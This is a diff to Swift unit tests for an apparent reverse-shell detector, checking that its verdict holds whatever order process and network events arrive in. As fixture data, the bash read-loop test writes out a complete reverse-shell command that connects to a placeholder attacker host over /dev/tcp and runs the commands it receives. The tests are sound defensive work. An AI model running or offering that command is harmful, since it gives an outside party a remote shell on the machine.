@@ -39,32 +39,31 @@ final class ReverseShellCommandLoopOrderTests: XCTestCase {
 
     /// Every delivery of `proc` (proc-connector events, in their own order) with the audit connect
     /// inserted at each position, followed at once by the enrichment's descriptor read of the
-    /// connector (`connectorFDs`) and, at each later position, by its re-reads (`rereads`). A
-    /// re-read comes after `proc[rereadAfter]` (the fork of the process it reads: it is taken 50 ms
-    /// after the connect from /proc, where the process already is, while the fork is delivered at once).
+    /// connector (`connectorFDs`) and, at each later position, by its re-reads (`rereads`). Reads
+    /// are stamped when capture made them (at the connect, and 50 ms after it), however late they
+    /// are delivered. A re-read comes after `proc[rereadAfter]` (the fork of the process it reads:
+    /// that fork happened before the re-read looked in /proc).
     private func deliveries(setup: [Timed], connect: Timed, connectorFDs: DescriptorsEvent?, rereads: [DescriptorsEvent],
                             rereadAfter: Int = -1, proc: [Timed]) -> [[EventRecord]] {
         var out: [[EventRecord]] = []
         for c in 0...proc.count {
             for r in max(c, rereadAfter + 1)...proc.count {
                 var list: [EventRecord] = setup.map { EventRecord(timestamp: $0.at, event: $0.event) }
-                var clock = setup.map(\.at).max() ?? t0
-                func deliver(_ t: Timed) { list.append(EventRecord(timestamp: t.at, event: t.event)); clock = max(clock, t.at) }
-                // Enrichment stamps its reads with the time it made them: after what was delivered.
-                func read(_ d: DescriptorsEvent) { clock += ms / 2; list.append(EventRecord(timestamp: clock, event: .descriptors(d))) }
+                func deliver(_ t: Timed) { list.append(EventRecord(timestamp: t.at, event: t.event)) }
+                func read(_ d: DescriptorsEvent, at: UInt64) { list.append(EventRecord(timestamp: at, event: .descriptors(d))) }
                 for (i, p) in proc.enumerated() {
                     if i == c {
                         deliver(connect)
-                        if let connectorFDs { read(connectorFDs) }
+                        if let connectorFDs { read(connectorFDs, at: connect.at + ms / 2) }
                     }
-                    if i == r, i >= c { rereads.forEach(read) }
+                    if i == r, i >= c { rereads.forEach { read($0, at: connect.at + 50 * ms) } }
                     deliver(p)
                 }
                 if c == proc.count {
                     deliver(connect)
-                    if let connectorFDs { read(connectorFDs) }
+                    if let connectorFDs { read(connectorFDs, at: connect.at + ms / 2) }
                 }
-                if r == proc.count { rereads.forEach(read) }
+                if r == proc.count { rereads.forEach { read($0, at: connect.at + 50 * ms) } }
                 out.append(list)
             }
         }
@@ -118,14 +117,37 @@ final class ReverseShellCommandLoopOrderTests: XCTestCase {
         }
     }
 
-    private func setup(interpreter pid: Int32, exe: String, argv: [String]) -> [Timed] {
+    /// The shell (pid 100) that starts the interpreter; it was running when the monitor started.
+    private var setup: [Timed] {
         [Timed(at: t0, event: .snapshot(RuntimeWatchCore.ProcessInfo(pid: ProcessID(100), ppid: ProcessID(1), comm: "sh", exe: "/bin/busybox",
                                                                     argv: ["sh"], cgroup: cgroup, fds: [devnull(0), file(1, "/out"), file(2, "/out")],
-                                                                    source: "proc"))),
-         Timed(at: t0 + ms, event: .fork(ForkEvent(parent: ProcessID(100), child: ProcessID(pid)))),
-         Timed(at: t0 + 2 * ms, event: .exec(RuntimeWatchCore.ProcessInfo(pid: ProcessID(pid), ppid: ProcessID(100), comm: ProgramClassifier.baseName(exe),
-                                                                         exe: exe, argv: argv, cgroup: cgroup,
-                                                                         fds: [devnull(0), file(1, "/out"), file(2, "/out")], source: "proc")))]
+                                                                    source: "proc")))]
+    }
+
+    /// The interpreter as capture reads it, at its exec and again when it connects (audit's connect
+    /// carries a read of the process: same start time, so the same incarnation).
+    private func interpreterInfo(_ pid: Int32, exe: String, argv: [String]) -> RuntimeWatchCore.ProcessInfo {
+        RuntimeWatchCore.ProcessInfo(pid: ProcessID(pid), ppid: ProcessID(100), comm: ProgramClassifier.baseName(exe), exe: exe, argv: argv,
+                                     cgroup: cgroup, fds: [devnull(0), file(1, "/out"), file(2, "/out")], startTicks: 4_242, source: "proc")
+    }
+
+    /// The interpreter's fork and exec (proc connector) and its exit 500 ms later, after the loop
+    /// served its one command: capture can deliver the connect before the first or after the last.
+    private func interpreterLife(_ pid: Int32, exe: String, argv: [String]) -> (start: [Timed], exit: Timed) {
+        ([Timed(at: t0 + ms, event: .fork(ForkEvent(parent: ProcessID(100), child: ProcessID(pid)))),
+          Timed(at: t0 + 2 * ms, event: .exec(interpreterInfo(pid, exe: exe, argv: argv)))],
+         Timed(at: t0 + 500 * ms, event: .exit(ExitEvent(pid: ProcessID(pid), code: 0))))
+    }
+
+    /// The audit connect, with the process read that enrichment attaches. Stamped when it happened
+    /// (5 ms after the start), or early: audit stamps in milliseconds, from another clock than the
+    /// proc connector's (seen 2.6 ms apart live), so a connect made 1 ms after its process was forked
+    /// can carry a time before that fork.
+    private func connects(_ pid: Int32, exe: String, argv: [String], port: UInt16) -> [Timed] {
+        [t0 + 5 * ms, t0 + ms / 2].map { at in
+            Timed(at: at, event: .connect(ConnectEvent(pid: ProcessID(pid), proto: "tcp", remoteAddress: attacker, remotePort: port,
+                                                       process: interpreterInfo(pid, exe: exe, argv: argv))))
+        }
     }
 
     // MARK: - popen-style loops: the interpreter runs each command with its output on a pipe it holds
@@ -155,30 +177,32 @@ final class ReverseShellCommandLoopOrderTests: XCTestCase {
          Family(name: "lua io.popen", exe: "/usr/bin/lua5.4", argv: ["/usr/bin/lua5.4", "-e", "…io.popen(c)…"], images: shellThenId)]
     }
 
-    /// Each family, each read outcome of each exec, the connect at every position (before the
-    /// fork, between the execs, after the exit) and the interpreter's re-read at every later one.
+    /// Each family, each read outcome of each exec, the connect (on time or stamped early) at every
+    /// position (before the interpreter's fork, between the command's execs, after the interpreter
+    /// exited) and the interpreter's re-read at every later one.
     func testPopenCommandLoopsGiveOneVerdictInEveryOrder() {
         let port: UInt16 = 4444
         for family in families {
             let interpreter: Int32 = 220, child: Int32 = 221
             let outputPipe = pipe(1, 300)
+            let life = interpreterLife(interpreter, exe: family.exe, argv: family.argv)
             var readCombos: [[Read]] = [[]]
             for _ in family.images { readCombos = readCombos.flatMap { prefix in Read.allCases.map { prefix + [$0] } } }
             for reads in readCombos {
-                var proc = [Timed(at: t0 + 10 * ms, event: .fork(ForkEvent(parent: ProcessID(interpreter), child: ProcessID(child))))]
+                var proc = life.start + [Timed(at: t0 + 10 * ms, event: .fork(ForkEvent(parent: ProcessID(interpreter), child: ProcessID(child))))]
                 for (i, image) in family.images.enumerated() {
                     proc.append(Timed(at: t0 + UInt64(11 + i) * ms,
                                       event: exec(child, ppid: interpreter, exe: image.exe, argv: image.argv,
                                                   fds: [devnull(0), outputPipe, file(2, "/out")], read: reads[i])))
                 }
                 proc.append(Timed(at: t0 + 20 * ms, event: .exit(ExitEvent(pid: ProcessID(child), code: 0))))
-                let connect = Timed(at: t0 + 5 * ms, event: .connect(ConnectEvent(pid: ProcessID(interpreter), proto: "tcp",
-                                                                                 remoteAddress: attacker, remotePort: port)))
+                proc.append(life.exit)
                 // The interpreter keeps its socket above fd 2: its reads show the same stdio.
                 let stdio = DescriptorsEvent(pid: ProcessID(interpreter), fds: [devnull(0), file(1, "/out"), file(2, "/out")])
-                let runs = deliveries(setup: setup(interpreter: interpreter, exe: family.exe, argv: family.argv),
-                                      connect: connect, connectorFDs: stdio, rereads: [stdio], proc: proc)
-                assertSameVerdict(runs, pid: interpreter, port: port, "\(family.name), reads \(reads)")
+                for connect in connects(interpreter, exe: family.exe, argv: family.argv, port: port) {
+                    let runs = deliveries(setup: setup, connect: connect, connectorFDs: stdio, rereads: [stdio], rereadAfter: 1, proc: proc)
+                    assertSameVerdict(runs, pid: interpreter, port: port, "\(family.name), reads \(reads), connect at +\((connect.at - t0) / 1000) µs")
+                }
             }
         }
     }
@@ -191,8 +215,10 @@ final class ReverseShellCommandLoopOrderTests: XCTestCase {
     /// command may be read or gone; the connect and the loop's re-read come at any point.
     func testBashReadLoopGivesOneVerdictInEveryOrder() {
         let port: UInt16 = 4321
+        let argv = ["bash", "-c", "exec 5<>/dev/tcp/\(attacker)/\(port); cat <&5 | while read l; do $l 2>&5 >&5; done"]
+        let life = interpreterLife(310, exe: "/usr/bin/bash", argv: argv)
         for commandRead in [Read.complete, .vanished] {
-            var proc: [Timed] = [
+            var proc: [Timed] = life.start + [
                 Timed(at: t0 + 10 * ms, event: .fork(ForkEvent(parent: ProcessID(310), child: ProcessID(311)))),
                 Timed(at: t0 + 11 * ms, event: .fork(ForkEvent(parent: ProcessID(310), child: ProcessID(312)))),
                 Timed(at: t0 + 12 * ms, event: exec(311, ppid: 310, exe: "/usr/bin/cat", argv: ["/usr/bin/cat"],
@@ -201,15 +227,20 @@ final class ReverseShellCommandLoopOrderTests: XCTestCase {
                 Timed(at: t0 + 21 * ms, event: exec(313, ppid: 312, exe: "/usr/bin/id", argv: ["id"],
                                                    fds: [pipe(0, 96), inet(1, 95, port: port), inet(2, 95, port: port)], read: commandRead)),
                 Timed(at: t0 + 22 * ms, event: .exit(ExitEvent(pid: ProcessID(313), code: 0))),
+                // The connection closes: cat and the loop end, then bash, which waited for them.
+                Timed(at: t0 + 498 * ms, event: .exit(ExitEvent(pid: ProcessID(311), code: 0))),
+                Timed(at: t0 + 499 * ms, event: .exit(ExitEvent(pid: ProcessID(312), code: 0))),
+                life.exit,
             ]
             proc.sort { $0.at < $1.at }
-            let connect = Timed(at: t0 + 5 * ms, event: .connect(ConnectEvent(pid: ProcessID(310), proto: "tcp", remoteAddress: attacker, remotePort: port)))
+            // The loop's re-read (from /proc, 50 ms after the connect) comes after its fork.
+            let loopFork = proc.firstIndex { if case .fork(let f) = $0.event { return f.child == ProcessID(312) }; return false }!
             let bashStdio = DescriptorsEvent(pid: ProcessID(310), fds: [devnull(0), file(1, "/out"), file(2, "/out")])
             let loop = DescriptorsEvent(pid: ProcessID(312), fds: [pipe(0, 96), file(1, "/out"), file(2, "/out")])
-            let runs = deliveries(setup: setup(interpreter: 310, exe: "/usr/bin/bash",
-                                               argv: ["bash", "-c", "exec 5<>/dev/tcp/\(attacker)/\(port); cat <&5 | while read l; do $l 2>&5 >&5; done"]),
-                                  connect: connect, connectorFDs: bashStdio, rereads: [loop], rereadAfter: 1, proc: proc)
-            assertSameVerdict(runs, pid: 312, port: port, "bash read loop, command read \(commandRead)")
+            for connect in connects(310, exe: "/usr/bin/bash", argv: argv, port: port) {
+                let runs = deliveries(setup: setup, connect: connect, connectorFDs: bashStdio, rereads: [loop], rereadAfter: loopFork, proc: proc)
+                assertSameVerdict(runs, pid: 312, port: port, "bash read loop, command read \(commandRead), connect at +\((connect.at - t0) / 1000) µs")
+            }
         }
     }
 
@@ -218,18 +249,21 @@ final class ReverseShellCommandLoopOrderTests: XCTestCase {
     /// A service script (not inline code) that called an API and then runs one `sh -c` with its
     /// output captured, in every order and read outcome: quiet, like a CI runner's job steps.
     func testServiceScriptRunningACapturedCommandAfterAnAPICallIsQuietInEveryOrder() {
+        let argv = ["python3", "/app/deploy_hook.py"]
+        let life = interpreterLife(220, exe: "/usr/bin/python3.11", argv: argv)
         for reads in Read.allCases.flatMap({ a in Read.allCases.map { [a, $0] } }) {
-            var proc = [Timed(at: t0 + 10 * ms, event: .fork(ForkEvent(parent: ProcessID(220), child: ProcessID(221))))]
+            var proc = life.start + [Timed(at: t0 + 10 * ms, event: .fork(ForkEvent(parent: ProcessID(220), child: ProcessID(221))))]
             for (i, image) in shellThenId.enumerated() {
                 proc.append(Timed(at: t0 + UInt64(11 + i) * ms, event: exec(221, ppid: 220, exe: image.exe, argv: image.argv,
                                                                          fds: [devnull(0), pipe(1, 300), file(2, "/out")], read: reads[i])))
             }
             proc.append(Timed(at: t0 + 20 * ms, event: .exit(ExitEvent(pid: ProcessID(221), code: 0))))
-            let connect = Timed(at: t0 + 5 * ms, event: .connect(ConnectEvent(pid: ProcessID(220), proto: "tcp", remoteAddress: attacker, remotePort: 443)))
+            proc.append(life.exit)
             let stdio = DescriptorsEvent(pid: ProcessID(220), fds: [devnull(0), file(1, "/out"), file(2, "/out")])
-            for run in deliveries(setup: setup(interpreter: 220, exe: "/usr/bin/python3.11", argv: ["python3", "/app/deploy_hook.py"]),
-                                  connect: connect, connectorFDs: stdio, rereads: [stdio], proc: proc) {
-                XCTAssertEqual(alerts(run).map(\.output), [], "reads \(reads)")
+            for connect in connects(220, exe: "/usr/bin/python3.11", argv: argv, port: 443) {
+                for run in deliveries(setup: setup, connect: connect, connectorFDs: stdio, rereads: [stdio], rereadAfter: 1, proc: proc) {
+                    XCTAssertEqual(alerts(run).map(\.output), [], "reads \(reads)")
+                }
             }
         }
     }
@@ -237,8 +271,9 @@ final class ReverseShellCommandLoopOrderTests: XCTestCase {
     /// The same shape without a connection: an inline interpreter that never connected runs `sh -c`
     /// with its output captured, in every read outcome. Quiet.
     func testInlineInterpreterWithoutConnectionIsQuietWhateverTheReads() {
+        let life = interpreterLife(220, exe: "/usr/bin/python3", argv: ["python3", "-c", "…"])
         for reads in Read.allCases.flatMap({ a in Read.allCases.map { [a, $0] } }) {
-            var records = setup(interpreter: 220, exe: "/usr/bin/python3", argv: ["python3", "-c", "…"]).map { EventRecord(timestamp: $0.at, event: $0.event) }
+            var records = (setup + life.start).map { EventRecord(timestamp: $0.at, event: $0.event) }
             records.append(EventRecord(timestamp: t0 + 10 * ms, event: .fork(ForkEvent(parent: ProcessID(220), child: ProcessID(221)))))
             for (i, image) in shellThenId.enumerated() {
                 records.append(EventRecord(timestamp: t0 + UInt64(11 + i) * ms,
@@ -246,6 +281,7 @@ final class ReverseShellCommandLoopOrderTests: XCTestCase {
                                                        fds: [devnull(0), pipe(1, 300), file(2, "/out")], read: reads[i])))
             }
             records.append(EventRecord(timestamp: t0 + 20 * ms, event: .exit(ExitEvent(pid: ProcessID(221), code: 0))))
+            records.append(EventRecord(timestamp: life.exit.at, event: life.exit.event))
             XCTAssertEqual(alerts(records).map(\.output), [], "reads \(reads)")
         }
     }
